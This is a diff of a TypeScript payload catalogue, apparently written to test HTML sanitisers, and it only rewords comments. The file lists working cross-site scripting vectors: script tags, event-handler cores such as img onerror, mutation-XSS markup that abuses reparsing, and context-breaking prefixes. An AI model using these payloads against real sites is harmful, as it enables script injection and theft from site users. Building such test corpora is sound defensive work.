@@ -1,13 +1,13 @@
 /*
- * Shapes of cross-site scripting and of requests behind one's back, as public lists have them,
- * written down anew. `js` is a script without quotes and spaces, `url` an address; both are of one
- * vector alone, so that whatever runs or loads is known by its number.
+ * Shapes of cross-site scripting and of hidden requests, after public lists but written anew. `js`
+ * is a script without quotes and spaces, `url` an address; both contain the vector's number, which
+ * identifies whatever runs or loads.
  */
 
-/** One way to run a script or to make a request. */
+/** One way to run a script or make a request. */
 export type Shape = (js: string, url: string) => string;
 
-/** Scripts that run when the markup is rendered or a person touches it. */
+/** Scripts that run when the markup is rendered or a user interacts with it. */
 const SCRIPTS: readonly Shape[] = [
   (js) => `<script>${js}</script>`,
   (js) => `<SCRIPT >${js}</SCRIPT\t>`,
@@ -136,7 +136,7 @@ const SCRIPTS: readonly Shape[] = [
     `<a id=defaultView href=javascript:${js}></a><a id=defaultView name=top href=javascript:${js}>j</a>`,
 ];
 
-/** Requests that are made without a script. What only an image of the article makes is not here. */
+/** Requests made without a script. Those made only by images of an article are not here. */
 const REQUESTS: readonly Shape[] = [
   (_js, url) => `<iframe src="${url}"></iframe>`,
   (_js, url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
@@ -195,7 +195,7 @@ const REQUESTS: readonly Shape[] = [
 
 export const SHAPES: readonly Shape[] = [...SCRIPTS, ...REQUESTS];
 
-/** What is hidden where parsing it again, or in another namespace, brings it out. */
+/** Payloads to hide where parsing again, or in another namespace, brings them out. */
 export const CORES: readonly Shape[] = [
   (js) => `<img src=x onerror=${js}>`,
   (js) => `<svg onload=${js}>`,
@@ -211,7 +211,7 @@ export const CORES: readonly Shape[] = [
 const quoted = (core: string) => core.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
 const escaped = (core: string) => quoted(core).replaceAll('<', '&lt;').replaceAll('>', '&gt;');
 
-/** Mutations: markup that means one thing when it is parsed and another when it is parsed again. */
+/** Mutation XSS: markup that parses differently when it is serialised and parsed again. */
 export const MUTATIONS: readonly ((core: string) => string)[] = [
   (core) => `<noscript><p title="</noscript>${quoted(core)}"></p></noscript>`,
   (core) => `<svg></p><style><a id="</style>${quoted(core)}"></style></svg>`,
@@ -242,7 +242,7 @@ export const MUTATIONS: readonly ((core: string) => string)[] = [
   (core) => `<a><a><b><table><a>${core}</table></b></a></a>`,
 ];
 
-/** What breaks out of where words are put; with a core behind it. */
+/** Prefixes that break out of contexts for text, to be followed by a core. */
 export const BREAKS: readonly string[] = [
   '',
   '"><',
